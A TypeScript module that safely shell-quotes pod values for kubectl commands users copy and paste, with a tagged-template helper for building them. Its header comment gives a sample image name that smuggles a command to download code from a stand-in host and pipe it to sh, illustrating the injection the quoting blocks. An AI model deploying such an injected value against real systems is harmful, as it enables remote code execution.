// Values from a pod (names, images, keys, node names) placed into commands that people copy and
// paste. Every such value is quoted for a POSIX shell, so an image like
// `evil.example/app;curl${IFS}-s${IFS}evil.example/x|sh;echo:1.0` stays one harmless word.
// Write commands with the `sh` tag: sh`kubectl -n ${ns} logs ${pod}` quotes each value and
// leaves the literal text (flags, placeholders such as <image>) as written.

// Characters that never need quoting; anything else puts the whole value in single quotes.
const SAFE = /^[A-Za-z0-9@%+=:,./_-]+$/;

/** One shell word that stands for exactly `value`. */
export function shellQuote(value: string | number): string {
  const v = String(value);
  if (SAFE.test(v)) return v;
  // inside single quotes nothing is special except the quote itself: end, escape it, reopen
  return `'${v.replaceAll("'", `'\\''`)}'`;
}

/** A value that is command text written by Podscope itself (a placeholder), not data. */
export class Literal {
  constructor(readonly text: string) {}
}
export const literal = (text: string) => new Literal(text);

/** Tagged template: every interpolated value is shell-quoted; Literal values are kept as they are. */
export function sh(parts: TemplateStringsArray, ...values: (string | number | Literal)[]): string {
  let out = parts[0];
  values.forEach((v, i) => {
    out += (v instanceof Literal ? v.text : shellQuote(v)) + parts[i + 1];
  });
  return out;
}
